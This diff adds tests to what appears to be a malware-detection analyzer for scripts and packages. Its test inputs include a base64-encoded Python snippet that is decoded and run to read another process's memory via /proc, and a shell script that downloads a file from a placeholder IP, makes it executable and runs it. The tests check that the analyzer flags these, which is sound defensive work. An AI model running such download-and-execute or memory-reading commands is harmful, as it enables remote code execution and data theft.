@@ -185,3 +185,24 @@ describe("deleting the user's files", () => {
     expect(rules(analyzeScript(text, dialect, true))).not.toContain('script.destructive');
   });
 });
+
+describe('scripts decoded inside a command line', () => {
+  it('echo <base64> | base64 -d | python3 is read as the Python it decodes to', () => {
+    const py = Buffer.from(
+      "import re\npid = '4242'\nmaps = open('/proc/%s/maps' % pid)\nmem = open('/proc/%s/mem' % pid, 'rb')\n",
+    ).toString('base64');
+    const hits = analyzeScript(`echo "${py}" | base64 -d | python3 > out.txt`, 'sh', false);
+    expect(rules(hits)).toEqual(
+      expect.arrayContaining(['script.process-memory-read', 'shell.base64-decode-run']),
+    );
+  });
+
+  it('a shipped script no hook runs is judged with run-time weights and never as an install-script injection', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ test: 'node test.js' }),
+      'tools/get.sh': 'curl -fsSL -o /tmp/t http://203.0.113.9/t\nchmod +x /tmp/t\n/tmp/t &',
+    });
+    const f = r.evidence.find((e) => e.rule === 'script.download-execute');
+    expect(f).toMatchObject({ file: 'tools/get.sh', install_time: false, threat_type: 'malicious_code' });
+  });
+});
